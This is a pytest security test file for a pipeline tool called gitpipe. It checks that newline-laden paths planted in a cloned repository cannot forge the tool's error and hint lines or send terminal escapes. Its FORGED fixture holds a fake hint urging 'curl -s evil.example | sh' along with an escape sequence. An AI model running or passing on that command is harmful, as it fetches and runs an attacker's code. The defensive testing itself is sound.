"""Attacks on how a stage's failure is printed: a cloned repository names a
dep, or a `python:` module, whose path holds a newline and then `hint: …` or
an indented line; when the stage fails on it, its message (with the hint a
GitpipeError carries, once joined in as a line `hint: …`) printed a line of
the clone's as gitpipe's own hint or listing. A failure's message and hint
are kept apart (`TaskResult.hint`) and framed where they are printed, each
line after `error: ` or `hint: `; the path is quoted where it enters."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import Repo
from tests.security.conftest import assert_only_changed, snapshot

FORGED = ("loop\nhint: the cache is corrupt, run: curl -s evil.example | sh\n"
          "  all 2 stages up to date\x1b]0;owned\x07\u2028x")
OWN_HINTS = ("hint: gitpipe hashes files", "hint: the log is ",
             "hint: a module followed by python: must be a file")
# What a run may write: gitpipe's bookkeeping and the first stage's declared out.
RUN_WRITES = ["ci/.gitpipe", "ci/gitpipe.lock", "ci/a.txt", "ci/.gitignore"]


def assert_lines_are_gitpipes(stderr: str) -> None:
    """Every line is an `error: ` line or one of gitpipe's own hints; nothing
    the clone wrote begins a line or reaches the terminal as an escape."""
    lines = stderr.splitlines()
    assert lines, stderr
    strays = [line for line in lines if not line.startswith(("error: ", *OWN_HINTS))]
    assert not strays, stderr
    assert "\x1b" not in stderr and "\x07" not in stderr and "\u2028" not in stderr, stderr


def cloned(make_repo: Callable[[str], Repo], tmp_path: Path, dep: dict[str, object],
           plant: Callable[[Path], None]) -> Repo:
    """A clone of a repository whose stage `b` runs after a new stage `a` (so
    the read-only pass stops at `a` and `b` is judged as the run reaches it),
    with `dep` among b's deps and `plant` having made its files."""
    evil = make_repo("evil")
    evil.spec({"a": {"cmd": "echo a > a.txt", "outs": ["a.txt"]},
               "b": {"cmd": "cat a.txt > b.txt", "deps": ["a.txt"], **dep,
                     "outs": ["b.txt"]}})
    plant(evil.path)
    evil.commit("a stage whose dep forges lines")
    return evil.clone_to(tmp_path / "ci")


def a_link_loop(root: Path) -> None:
    os.symlink(FORGED, root / FORGED)


def a_module_outside(root: Path) -> None:
    (root.parent / "outside.py").write_text("x = 1\n")
    os.symlink("../outside.py", root / f"{FORGED}.py")


ATTACKS = [({"deps": ["a.txt", FORGED]}, a_link_loop),
           ({"deps": ["a.txt", {"python": f"{FORGED}.py"}]}, a_module_outside)]


@pytest.mark.parametrize(("dep", "plant"), ATTACKS)
def test_a_failure_from_a_clones_path_never_prints_as_gitpipes_line(
        make_repo: Callable[[str], Repo], tmp_path: Path, dep: dict[str, object],
        plant: Callable[[Path], None]) -> None:
    clone = cloned(make_repo, tmp_path, dep, plant)
    before = snapshot(tmp_path)
    done = clone.run("repro")
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    assert "failed b" in done.stdout, done.stdout
    assert_lines_are_gitpipes(done.stderr)
    assert "'loop\\nhint: the cache is corrupt" in done.stderr, done.stderr
    assert_only_changed(before, snapshot(tmp_path), RUN_WRITES)


@pytest.mark.parametrize(("dep", "plant"), ATTACKS)
def test_an_error_from_a_clones_path_never_prints_as_gitpipes_line(
        make_repo: Callable[[str], Repo], tmp_path: Path, dep: dict[str, object],
        plant: Callable[[Path], None]) -> None:
    """The same path read by `status`: an error, where an indented line would
    be a listing's."""
    clone = cloned(make_repo, tmp_path, dep, plant)
    before = snapshot(tmp_path)
    done = clone.run("status")
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert_lines_are_gitpipes(done.stderr)
    assert "'loop\\nhint: the cache is corrupt" in done.stderr, done.stderr
    assert_only_changed(before, snapshot(tmp_path), ["ci/.gitpipe"])


def test_a_failures_hint_is_its_own_field_in_json(make_repo: Callable[[str], Repo],
                                                   tmp_path: Path) -> None:
    """`repro --json` gives a failed task's message and hint apart, as `error`
    does for a command's error: a reader never parses one out of the other."""
    clone = cloned(make_repo, tmp_path, *ATTACKS[0])
    done = clone.run("repro", "--json")
    assert done.returncode == 1, done.stderr
    task = next(t for t in json.loads(done.stdout)["tasks"] if t["task"] == "b")
    assert task["message"].startswith("'loop\\nhint: the cache"), task
    assert "\n" not in task["message"], task
    assert task["hint"] == "gitpipe hashes files, symlinks to them and directories", task
